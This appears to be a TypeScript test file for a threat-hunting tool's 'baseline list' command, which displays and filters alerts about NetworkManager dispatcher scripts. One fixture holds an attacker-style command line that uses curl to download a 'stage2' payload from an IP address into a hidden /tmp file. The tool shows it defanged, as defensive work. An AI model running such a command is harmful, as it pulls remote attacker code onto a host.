import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { DynamoDbBaselineStore } from '../functions/adapters/dynamodb-baseline-store';
import { parseSince } from '../functions/cli/commands/baseline-commands';
import { runCli } from '../functions/cli/cli';
import { entryFromFinding, type BaselineEntry } from '../functions/core/baseline';
import { huntById } from '../functions/core/hunts';
import { startEmbeddedDynamoDb, type EmbeddedDynamoDb } from '../functions/local/embedded-dynamodb';
import { childFinding, writeFinding } from './support/harness';

const NOW = '2026-11-25T02:00:00.000Z';
const SCRIPT = '/etc/NetworkManager/dispatcher.d/99-very-long-organisation-wide-vpn-routing-hook-name';
const child = huntById('dispatcher-script-child')!;
const write = huntById('dispatcher-script-write')!;
const entries: BaselineEntry[] = [
  entryFromFinding(child, childFinding(SCRIPT, '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2 -o /tmp/.x', { hostNames: ['web-03'], lastSeen: '2026-11-24T21:15:00.000Z' }), 'alerted', NOW),
  entryFromFinding(child, childFinding(SCRIPT, '/usr/sbin/ip', 'ip route replace 10.20.0.0/16 dev tun0', { hostNames: ['vpn-gw-01', 'vpn-gw-02'], lastSeen: '2026-11-10T03:00:00.000Z' }), 'learned', NOW),
  {
    ...entryFromFinding(write, writeFinding(SCRIPT, '/usr/bin/cp', { hostNames: ['Vpn-GW-01'], lastSeen: '2026-11-01T00:00:00.000Z' }), 'approved', NOW),
    note: 'rolled out by CHG-1234',
    approvedBy: 'alice',
    approvedAt: NOW,
  },
];

let db: EmbeddedDynamoDb;
let table: string;
before(async () => {
  db = await startEmbeddedDynamoDb();
  table = await db.createTable();
  await new DynamoDbBaselineStore(db.client, table).putMany(entries);
});
after(() => db.close());

async function list(args: string[], columns?: number) {
  let stdout = '';
  let stderr = '';
  const code = await runCli(['baseline', 'list', '--endpoint', db.endpoint, '--table', table, ...args], { out: { write: (s) => void (stdout += s) }, err: { write: (s) => void (stderr += s) }, env: {}, ...(columns ? { columns } : {}) });
  return { code, stdout, stderr, lines: stdout.trimEnd().split('\n') };
}

describe('baseline list', () => {
  it('shows what tells a child finding apart (its command line and child), not the parent it shares with others', async () => {
    const { code, lines } = await list([], 200);
    assert.equal(code, 0);
    assert.match(lines[0]!, /^FINGERPRINT +STATUS +HUNT +LAST SEEN +HOSTS +APPROVED +IDENTITY$/);
    const curl = lines.find((l) => l.includes('alerted'))!;
    assert.match(curl, /curl -fsS hxxps\[:\/\/\]203\[\.\]0\[\.\]113\[\.\]66\/stage2/, 'the command line comes first, inert');
    const ip = lines.find((l) => l.includes('learned'))!;
    assert.match(ip, /ip route replace 10\[\.\]20\[\.\]0\[\.\]0\/16 dev <interface> · child \/usr\/sbin\/ip/, 'the interface is masked: tun0 and tun1 are one child');
    assert.match(ip, /vpn-gw-01 \+1/, 'the first host and how many more');
  });

  it('fits every line to the terminal, and cuts nothing when stdout is a pipe', async () => {
    for (const columns of [80, 120, 200]) {
      const { lines } = await list([], columns);
      for (const line of lines) assert.ok(line.length <= columns, `${line.length} > ${columns}: ${line}`);
      assert.ok(lines.slice(1).every((l) => /curl|ip route|writer/.test(l)), 'the identity’s first words fit');
    }
    assert.match((await list([], 80)).lines[0]!, /^FINGERPRINT +STATUS +HUNT +IDENTITY$/, 'narrow: the optional columns make room');
    const piped = await list([]);
    assert.ok(piped.lines.some((l) => l.includes(`script dispatcher.d/${SCRIPT.split('/').pop()}`)), 'the whole identity, one line per entry');
    assert.equal(piped.lines.length, 1 + entries.length);
  });

  it('shows the approver and the note of the newest approval', async () => {
    const { lines } = await list(['--status', 'approved']);
    assert.equal(lines.length, 2);
    assert.match(lines[1]!, /alice: rolled out by CHG-1234/);
  });

  it('filters by host (any case), by time, by hunt and by status', async () => {
    const fingerprints = async (args: string[]) => (JSON.parse((await list([...args, '--json'])).stdout) as BaselineEntry[]).map((e) => e.fingerprint).sort();
    assert.deepEqual(await fingerprints(['--host', 'vpn-gw-01']), [entries[1]!.fingerprint, entries[2]!.fingerprint].sort());
    assert.deepEqual(await fingerprints(['--since', '2026-11-05']), [entries[0]!.fingerprint, entries[1]!.fingerprint].sort());
    assert.deepEqual(await fingerprints(['--since', '2026-11-24T00:00:00Z', '--hunt', 'dispatcher-child-process'] /* the earlier id lists the hunts split from it */), [entries[0]!.fingerprint]);
    assert.deepEqual(await fingerprints(['--host', 'web-03', '--status', 'learned']), []);
    const bad = await list(['--since', 'last week']);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /--since "last week": expected a date \(2026-11-20\), a UTC time \(2026-11-20T08:00:00Z\) or an age \(36h, 7d\)/);
  });

  it('reads --since as a date, a UTC time or an age', () => {
    const now = new Date('2026-11-25T12:00:00.000Z');
    assert.equal(parseSince('7d', now), '2026-11-18T12:00:00.000Z');
    assert.equal(parseSince('36h', now), '2026-11-24T00:00:00.000Z');
    assert.equal(parseSince('2026-11-20', now), '2026-11-20T00:00:00.000Z');
    assert.equal(parseSince('2026-11-20T08:00:00Z', now), '2026-11-20T08:00:00.000Z');
    assert.throws(() => parseSince('2026-11-20T08:00:00+02:00', now), /expected a date/);
  });
});
